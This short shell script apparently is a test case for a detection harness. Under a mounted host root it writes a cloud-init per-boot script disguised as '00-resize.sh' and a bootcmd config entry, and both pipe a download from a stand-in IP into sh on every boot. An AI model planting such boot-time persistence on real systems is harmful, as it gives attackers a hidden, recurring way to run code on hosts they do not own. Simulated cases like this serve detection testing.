#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/var/lib/cloud/scripts/per-boot /host/etc/cloud/cloud.cfg.d
printf '#!/bin/sh\ncurl -fsSL http://203.0.113.10/payload.sh | sh\n' >/host/var/lib/cloud/scripts/per-boot/00-resize.sh
chmod 755 /host/var/lib/cloud/scripts/per-boot/00-resize.sh
printf 'bootcmd:\n - [ sh, -c, "curl -fsSL http://203.0.113.10/payload.sh | sh" ]\n' >/host/etc/cloud/cloud.cfg.d/99-disk.cfg
took_place
